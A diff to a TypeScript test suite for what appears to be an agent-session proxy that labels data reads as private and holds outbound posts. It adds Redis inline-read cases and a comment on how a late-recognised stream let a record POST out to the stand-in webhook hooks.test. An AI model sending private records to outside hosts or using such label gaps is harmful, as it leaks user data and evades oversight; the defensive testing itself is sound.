@@ -5,6 +5,8 @@
 // unseen. Labels arrive with every upstream answer, whatever its status (and with 2xx answers
 // without a body: HEAD, 204).
 import http from 'node:http';
+import net from 'node:net';
+import { spawn } from 'node:child_process';
 import { HttpProxyAgent } from 'http-proxy-agent';
 import t, { type Test } from 'tap';
 import { WebSocket } from 'ws';
@@ -13,6 +15,7 @@ import { tempDir, type Teardown } from '../temp-dir.ts';
 import fc from 'fast-check';
 import { describeRequest } from '../../describe/describe.ts';
 import { mqttSignsIn, packedSignsIn, saslSignsIn, signsIn } from '../../describe/tunnel-sql.ts';
+import { inlineRedisRead } from '../../describe/tunnel-redis.ts';
 import { contentLabels, policyCopy, startSessionAirlock, startWeb, studioApi, testConfig, viaCurl, webHosts, type Web } from '../sessions/helpers.ts';
 
 /** Every host answers with the status its `s` query parameter names, and a body (the injection, the rows). */
@@ -623,6 +626,68 @@ t.test('a WebSocket that outlives a human\'s clear brings its labels again', asy
     t.equal((await viaCurl(proxy, 'POST', `${web.origin('hooks.test')}/send`, '{"rows":"Ada 4242"}', { prefer: 'respond-async' })).status, 202, `${name}: the next POST is held`);
     t.notOk(web.hits.some((h) => h.host === 'hooks.test'), `${name}: nothing reached the webhook`);
   }
+  // (Twenty-ninth pass, left open by the twenty-eighth) An inline Redis read (`GET customer:1\r\n`,
+  // as redis-cli, telnet or `nc -C` write it) to a real Redis behind a websockify-style bridge: the
+  // stream was read as Redis only once the server's first answer showed it, so that answer (the
+  // record) came in under the upgrade's `untrusted` and the POST to the webhook went out. The line
+  // is now read as a database read before it leaves; the read goes on.
+  const redisPort = await new Promise<number>((resolve) => { const s = net.createServer().listen(0, '127.0.0.1', () => { const p = (s.address() as net.AddressInfo).port; s.close(() => resolve(p)); }); });
+  const redis = spawn('redis-server', ['--port', String(redisPort), '--bind', '127.0.0.1', '--save', '', '--appendonly', 'no', '--protected-mode', 'no'], { stdio: 'ignore' });
+  t.teardown(() => { redis.kill(); });
+  let seeded = false;
+  for (let i = 0; i < 100 && !seeded; i++) {
+    seeded = await new Promise<boolean>((resolve) => {
+      const c = net.connect(redisPort, '127.0.0.1', () => c.write('*3\r\n$3\r\nSET\r\n$10\r\ncustomer:1\r\n$8\r\nAda 4242\r\n'));
+      c.on('data', (d) => { c.destroy(); resolve(d.toString().startsWith('+OK')); });
+      c.on('error', () => resolve(false));
+    });
+    if (!seeded) await new Promise((r) => setTimeout(r, 50));
+  }
+  t.ok(seeded, 'Redis holds the record');
+  // (An uppercase `GET key` as the stream's first line is refused already: the bytes of an HTTP/0.9 request.)
+  const inlineLines = ['get customer:1\r\n', 'HGETALL customer:1\r\n', 'keys *\r\n', 'MGET customer:1 customer:2\n'];
+  for (const [i, line] of inlineLines.entries()) {
+    const who = `redis-inline-${i}`;
+    const proxy = airlock.proxyUrl(who, (await airlock.agents.add(who)).token);
+    const sock = new WebSocket(`ws://ws.test:${web.port}/tcp-bridge/${redisPort}`, { agent: new HttpProxyAgent(proxy) });
+    t.teardown(() => sock.terminate());
+    const opened = new Promise<void>((resolve, reject) => { sock.once('open', () => resolve()); sock.once('error', reject); });
+    await approveNext(`${who}'s upgrade`, who);
+    await opened;
+    const answer = new Promise<string>((r) => { sock.once('close', (code) => r(`closed ${code}`)); sock.once('message', (m: Buffer) => r(m.toString())); });
+    // Cut in two for one of them: a bridge relays a byte stream.
+    if (i === 1) { sock.send(line.slice(0, 4)); sock.send(line.slice(4)); } else sock.send(line);
+    const got = await answer;
+    t.notMatch(got, /^closed/, `${JSON.stringify(line)}: Redis answered (${JSON.stringify(got.slice(0, 20))})`);
+    sock.terminate();
+    const labelled = ((await api('GET', '/api/sessions')).body.sessions as Array<{ agent: string; labels: Record<string, unknown> }>).find((x) => x.agent === who);
+    t.same(contentLabels(labelled!.labels), ['private', 'untrusted'], `${JSON.stringify(line)}: the record is private data`);
+    t.equal((await viaCurl(proxy, 'POST', `${web.origin('hooks.test')}/send`, '{"rows":"Ada 4242"}', { prefer: 'respond-async' })).status, 202, `${JSON.stringify(line)}: the next POST is held`);
+  }
+  t.notOk(web.hits.some((h) => h.host === 'hooks.test'), 'the record did not reach the webhook');
+  // The class: inline reads × letter case × a cut anywhere in the line × its end (CRLF; LF where the name is no English word).
+  const inlineRead = fc.tuple(fc.constantFrom(['hgetall', 'customer:1'], ['lrange', 'orders', '0', '-1'], ['smembers', 'emails'], ['scan', '0'], ['type', 'customer:1'], ['zrange', 'z', '0', '-1']), fc.boolean(), fc.boolean(), fc.double({ min: 0, max: 1, noNaN: true }));
+  let propRun = 0;
+  await fc.assert(fc.asyncProperty(inlineRead, async ([args, upper, lf, at]) => {
+    const words = ['scan', 'type'].includes(args[0]!);
+    const line = `${(upper ? args.map((a, k) => (k ? a : a.toUpperCase())) : args).join(' ')}${lf && !words ? '\n' : '\r\n'}`;
+    const who = `redis-prop-${propRun++}`;
+    const proxy = airlock.proxyUrl(who, (await airlock.agents.add(who)).token);
+    const sock = new WebSocket(`ws://ws.test:${web.port}/tcp-bridge/${redisPort}`, { agent: new HttpProxyAgent(proxy) });
+    const opened = new Promise<void>((resolve, reject) => { sock.once('open', () => resolve()); sock.once('error', reject); });
+    await approveNext(`${who}'s upgrade`, who);
+    await opened;
+    const answer = new Promise<string>((r) => { sock.once('close', (code) => r(`closed ${code}`)); sock.once('message', (x: Buffer) => r(x.toString())); });
+    const cut = Math.max(1, Math.floor(line.length * at));
+    if (cut < line.length) { sock.send(line.slice(0, cut)); sock.send(line.slice(cut)); } else sock.send(line);
+    const got = await answer;
+    sock.terminate();
+    const labelled = ((await api('GET', '/api/sessions')).body.sessions as Array<{ agent: string; labels: Record<string, unknown> }>).find((x) => x.agent === who);
+    return !got.startsWith('closed') && contentLabels(labelled!.labels).includes('private');
+  }), { numRuns: 4 });
+  // Controls: chat that begins with such a word is no inline read (a bare LF after an English word, prose, a wrong arity).
+  for (const line of ['get milk\n', 'GET me a coffee please\r\n', 'keys\r\n', 'hello']) t.notOk(inlineRedisRead(Buffer.from(line.replace(/\n$/, ''))), `control: ${JSON.stringify(line)}`);
+
   // The class: any read command of either database, a Redis command cut anywhere across two
   // messages (a bridge relays a byte stream), each in a fresh session: the read brings `private`.
   const resp = (args: string[]): string => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join('')}`;
